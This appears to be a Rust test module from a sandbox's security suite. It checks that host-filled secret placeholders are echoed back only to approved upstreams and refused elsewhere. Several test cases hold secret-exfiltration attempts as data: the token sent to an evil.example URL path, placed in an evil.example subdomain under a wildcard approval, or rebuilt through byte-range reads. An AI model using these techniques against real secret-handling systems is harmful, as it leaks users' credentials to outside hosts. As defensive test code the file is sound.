//! Secrets that a guest has the host fill in.

use serde_json::{Value, json};

use super::{KEPT, PLACEHOLDERS, kept};
use crate::attack::{Attack, Class, attack};
use crate::rig::{Rig, TOKEN};
use crate::upstream::{echo, say};

pub(super) fn attacks() -> Vec<Attack> {
    const NAME: &str = "${secret.token}";
    let refused = |id, what, request: Value, error: (&'static str, &'static str)| {
        attack(Class::Secrets, (id, what), PLACEHOLDERS, error, move |rig: Rig| {
            let mut step = request.clone();
            async move {
                step["do"] = json!("send");
                if step["url"].is_null() {
                    step["url"] = json!(rig.upstream().at([say(200, &[], "it was sent")]).url("/"));
                }
                rig.run(json!([step])).await
            }
        })
    };
    let echoed = |id, what, request: Value| {
        attack(Class::Secrets, (id, what), PLACEHOLDERS, KEPT, move |rig: Rig| {
            let mut step = request.clone();
            async move {
                let place = rig
                    .upstream()
                    .at([echo(&[], |received| [received.head().as_bytes(), b"\r\n\r\n", &received.body].concat())]);
                step["do"] = json!("send");
                step["method"] = json!("POST");
                step["url"] = json!(format!("{}{}", place.url("/"), step["path"].as_str().unwrap_or_default()));
                let told = rig.run(json!([step])).await;
                kept(told, &[TOKEN.into()])
            }
        })
    };
    let invalid = |text| ("HttpError::InvalidRequest", text);
    vec![
        echoed(
            "secrets-place-body",
            "A secret is put into a body and comes back",
            json!({ "body": { "bytes": NAME } }),
        ),
        echoed(
            "secrets-place-json",
            "A secret is put into JSON and comes back",
            json!({
                "body": { "bytes": "{\"a\": \"${secret.token}\"}" }, "headers": [["content-type", "application/json"]],
            }),
        ),
        echoed(
            "secrets-place-form",
            "A secret is put into a form and comes back",
            json!({ "body": { "form": [["a", NAME]] } }),
        ),
        echoed(
            "secrets-place-part",
            "A secret is put into a part and comes back",
            json!({
                "body": { "multipart": [{ "name": "a", "bytes": NAME }] },
            }),
        ),
        echoed("secrets-place-query", "A secret is put into a query and comes back", json!({ "query": [["a", NAME]] })),
        echoed("secrets-place-path", "A secret is put into a path and comes back", json!({ "path": NAME })),
        echoed(
            "secrets-place-header",
            "A secret is put into a header and comes back",
            json!({ "headers": [["x-a", NAME]] }),
        ),
        refused(
            "secrets-place-elsewhere",
            "A secret is put into a request to a host that nobody approved",
            json!({ "url": "https://evil.example/${secret.token}" }),
            ("HttpError::Denied", "has not approved it"),
        ),
        refused(
            "secrets-place-host",
            "A secret is put into the name of a host",
            json!({ "url": "https://${secret.token}.evil.example/" }),
            invalid("has characters that are not allowed in host names"),
        ),
        attack(
            Class::Secrets,
            ("secrets-place-wildcard", "A secret is put into the name of a host that a wildcard approves"),
            PLACEHOLDERS,
            invalid("has characters that are not allowed in host names"),
            |rig| async move {
                let connection = rig.approved(&["https://*.evil.example"]).await;
                let send = json!({ "do": "send", "url": "https://${secret.token}.evil.example/" });
                rig.script(&connection, json!([send])).await
            },
        ),
        refused(
            "secrets-place-bare",
            "A secret is put into a request that goes bare",
            json!({ "query": [["a", NAME]], "credential": "omit" }),
            invalid("only on requests that carry the connection's credential"),
        ),
        refused(
            "secrets-place-other",
            "A secret is named that the spec does not declare",
            json!({ "query": [["a", "${secret.password}"]] }),
            invalid("does not name a secret that can be filled in"),
        ),
        attack(
            Class::Secrets,
            ("secrets-place-state", "A placeholder is kept as state and read back"),
            PLACEHOLDERS,
            ("answer", "${secret.token}"),
            |rig| async move {
                rig.run(json!([
                    { "do": "state_set", "key": "k", "value": NAME }, { "do": "state_get", "key": "k" },
                ]))
                .await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-place-answer", "A placeholder is the output"),
            PLACEHOLDERS,
            ("answer", "${secret.token}"),
            |rig| async move { rig.run(json!([{ "do": "answer", "text": "{\"a\":\"${secret.token}\"}" }])).await },
        ),
        attack(
            Class::Secrets,
            ("secrets-place-range", "A secret is stored with a service and read back in pieces by ranges"),
            PLACEHOLDERS,
            ("HttpError::InvalidRequest", "range"),
            |rig| async move {
                let place = rig
                    .upstream()
                    .at([say(200, &[], "stored"), say(206, &["content-range: bytes 0-8/27"], &TOKEN[..9])]);
                let store = json!({ "do": "send", "method": "PUT", "url": place.url("/"), "body": { "bytes": NAME } });
                let load = json!({ "do": "send", "url": place.url("/"), "headers": [["range", "bytes=0-8"]] });
                rig.run(json!([store, load])).await
            },
        ),
    ]
}
